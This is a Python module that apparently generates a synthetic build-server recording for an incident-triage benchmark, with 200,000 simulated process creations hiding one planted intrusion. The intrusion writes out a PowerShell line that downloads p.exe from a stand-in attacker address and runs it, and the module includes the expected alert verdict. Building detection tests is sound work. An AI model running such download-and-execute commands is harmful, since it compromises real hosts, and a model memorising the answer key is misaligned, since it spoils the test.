"""One alert on a build server that creates 200,000 processes in the hour around it.

The alert's process descends from a build agent with tens of thousands of children of its own, so whoever
reads all creations of the window, or pulls in an ancestor's other children, pays for it.
"""

from collections.abc import Iterator

from local.incidents.case import Case, Expectation, ip_evidence, process_evidence
from local.incidents.chance import Chance
from local.incidents.clock import HOUR, MINUTE, SECOND, show
from local.incidents.columns import Columns, initiating
from local.incidents.crowd import crowd
from local.incidents.estate import END, OPERATOR, settle
from local.incidents.programs import program
from local.incidents.recorder import Recorder
from local.incidents.recording import Recording
from local.incidents.stage import Stage, attacker, later
from local.incidents.state_tables import record_alerts, record_devices
from local.incidents.world import SYSTEM, Cell, Device, File, Process
from local.incidents.writers import REPORT_IDS

CREATIONS = 200_000
_AGENTS = 8
_PIDS = 50_000  # so that every pid serves several times within the hour, minutes apart
_FIRST_PID = 40_000  # above those the rest of the device uses
_TOOLS = ("cl.exe", "link.exe", "node.exe", "git.exe")
_DEVICE = Device(
    "srv-build-01",
    "windows",
    "WindowsServer2022",
    "10.20.8.77",
    (OPERATOR,),
    "Servers",
    version="21H2",
    build=20_348,
)
_ADDRESS = "203.0.113.61"


def make_buildserver(seed: int, *, creations: int = CREATIONS) -> Recording:
    """The recording; its creations are written as they are made and never held at once."""
    recorder = Recorder(Chance(seed, "start"))
    estate = settle((_DEVICE,), recorder, seed)
    chance = Chance(seed, "buildserver")
    recorder.begin("", chance)
    services = estate.resident(_DEVICE.short, "services.exe")
    node = program("windows", "node.exe")
    agents = [
        recorder.start(
            services,
            node,
            f"node.exe agent.js --worker {number}",
            at=END - 5 * HOUR + number * SECOND + chance.integer(0, SECOND),
            account=SYSTEM,
            life=5 * HOUR,
        )
        for number in range(_AGENTS)
    ]
    stage = Stage(estate, recorder, chance, seed)
    recorder.begin("buildserver", chance)
    _intrusion(stage, agents[3])
    attacks = [process for process in recorder.processes if process.story]
    crowd(recorder, estate, attacks, seed)
    recorder.begin("", Chance(seed, "state"))
    record_alerts(recorder, stage.cases, _DEVICE)
    record_devices(recorder, (_DEVICE,), seed, last=END - MINUTE)
    settings = {"kind": "buildserver", "seed": seed, "creations": creations}
    return Recording(
        (_DEVICE,),
        recorder,
        stage.cases,
        settings,
        stage.dropped,
        {"DeviceProcessEvents": lambda: _builds(agents, seed, creations)},
    )


def _intrusion(stage: Stage, agent: Process) -> None:
    """A build step that fetches a program and runs it."""
    record, born = stage.recorder, END - 31 * MINUTE + 4_417_203
    shell = record.start(agent, program("windows", "cmd.exe"), "cmd.exe /d /s /c postinstall", at=born)
    script = record.start(
        shell,
        program("windows", "powershell.exe"),
        f"powershell.exe -c iwr http://{_ADDRESS}/p.exe -OutFile p.exe; .\\p.exe",
        at=later(born, 0.2210334),
    )
    record.network(script, later(born, 1.3), ip=_ADDRESS, port=80, url=f"http://{_ADDRESS}/p.exe")
    fetched = stage.drop(attacker("p.exe", "D:\\agent\\work"))
    record.file(script, later(born, 2.2), "FileCreated", fetched)
    run = record.start(script, fetched, ".\\p.exe", at=later(born, 2.9))
    for count in range(5):
        record.network(run, later(born, 4 + count * 17.3), ip=_ADDRESS)
    record.start(run, program("windows", "whoami.exe"), "whoami /all", at=later(born, 6.1))
    stage.raise_alert(
        Case(
            title="Suspicious download in a build",
            description="A build step fetched a program and ran it.",
            severity="High",
            category="Execution",
            device=agent.device,
            first=script.created,
            last=later(born, 3),
            created=END - 29 * MINUTE,
            evidence=(process_evidence(script), ip_evidence(_ADDRESS)),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The fetched program ran and went on calling out after the alert.",
                anchors=(script,),
                techniques=("T1105",),
            ),
            incident=1_060,
            techniques=("T1105",),
        )
    )


def _builds(agents: list[Process], seed: int, creations: int) -> Iterator[dict[str, Cell]]:
    """The creations of the hour, in time order; a third are children of the one before."""
    chance = Chance(seed, "builds")
    step = HOUR // creations
    files = [File(name, "D:\\tools\\bin", "Contoso", "Contoso") for name in _TOOLS]
    images = [(file.name, file.path, file.sha1) for file in files]
    shown = [initiating(agent) for agent in agents]
    base: Columns = {"DeviceId": _DEVICE.id, "DeviceName": _DEVICE.dns, "ActionType": "ProcessCreated"}
    previous = shown[0]
    for count in range(creations):
        name, path, sha1 = images[count % len(images)]
        moment = show(END - HOUR + count * step + chance.integer(0, step - 1))
        parent = previous if count % 3 == 1 else shown[count % _AGENTS]
        own: Columns = {
            "FileName": name,
            "FolderPath": path,
            "SHA1": sha1,
            "ProcessId": _FIRST_PID + 4 * (count * 7 % _PIDS),
            "ProcessCreationTime": moment,
            "ProcessCommandLine": f"{name} /c unit{count % 997}.cpp",
            "AccountName": SYSTEM.name,
        }
        yield {
            "Timestamp": moment,
            **base,
            "ReportId": REPORT_IDS + 1 + count % 60_000,
            **own,
            **parent,
        }
        previous = {
            "InitiatingProcessId": own["ProcessId"],
            "InitiatingProcessCreationTime": own["ProcessCreationTime"],
            "InitiatingProcessFileName": name,
            "InitiatingProcessFolderPath": path.lower(),
            "InitiatingProcessCommandLine": own["ProcessCommandLine"],
            "InitiatingProcessSHA1": sha1,
        }
